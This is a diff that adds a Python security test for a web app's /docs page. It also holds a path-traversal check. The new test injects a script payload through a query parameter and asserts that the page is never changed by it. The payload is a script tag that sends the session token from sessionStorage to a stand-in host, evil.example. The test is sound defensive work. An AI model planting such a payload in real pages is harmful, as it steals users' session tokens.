@@ -25,3 +25,14 @@ def test_an_unknown_vendored_asset_is_not_found() -> None:
     with served() as (client, *_):
         assert client.get("/static/vendor/../console.py").status_code == 404
         assert client.get("/static/vendor/nothing.js").status_code == 404
+
+
+def test_the_api_docs_page_is_the_same_page_whatever_its_query_string() -> None:
+    injected = "<script>fetch('//evil.example/?t=' + sessionStorage.getItem('token'))</script>"
+    with served() as (client, *_):
+        plain = client.get("/docs")
+        for query in ({"html": injected}, {"html": ""}, {"token": "t", "html": "x"}):
+            answer = client.get("/docs", params=query)
+            assert answer.status_code == 200, query
+            assert answer.text == plain.text, query
+            assert "evil.example" not in answer.text
